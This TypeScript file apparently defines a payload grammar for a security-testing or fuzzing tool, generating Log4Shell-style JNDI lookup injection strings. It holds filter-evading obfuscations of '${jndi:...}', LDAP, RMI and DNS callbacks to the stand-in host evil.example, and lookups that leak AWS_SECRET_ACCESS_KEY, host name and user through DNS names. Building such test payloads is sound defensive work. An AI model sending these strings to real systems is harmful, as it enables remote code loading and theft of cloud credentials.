import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'jndi',
  title: 'lookups that a logging library resolves',
  owasp: ['API8:2023'],
  inputs: ['text'],
  follows: true,
  rules: {
    start: [
      '\u0024{‹jndi›:‹scheme›://‹target›}',
      '\u0024{‹jndi›:‹scheme›://‹target›}',
      '\u0024{‹jndi›:\u0024{lower:‹l›}\u0024{lower:d}ap://‹target›}',
      '\u0024{‹jndi›:dns://\u0024{‹leak›}.‹name›.evil.example}',
    ],
    jndi: [
      'jndi',
      'jndi',
      '\u0024{lower:j}ndi',
      '\u0024{::-j}\u0024{::-n}\u0024{::-d}\u0024{::-i}',
      'j\u0024{::-n}di',
      '\u0024{env:‹name›:-j}ndi',
      '\u0024{upper:j}n\u0024{lower:d}i',
    ],
    l: ['l'],
    scheme: ['ldap', 'ldaps', 'rmi', 'dns', 'iiop'],
    target: [
      '‹ip›:1389/‹name›',
      '‹ip›/‹hex›',
      '‹name›.evil.example/‹name›',
      '127.0.0.1#‹name›.evil.example/‹hex›',
      '\u0024{‹leak›}.evil.example/‹hex›',
    ],
    leak: ['hostName', 'env:AWS_SECRET_ACCESS_KEY', 'sys:java.version', 'env:USER'],
  },
})
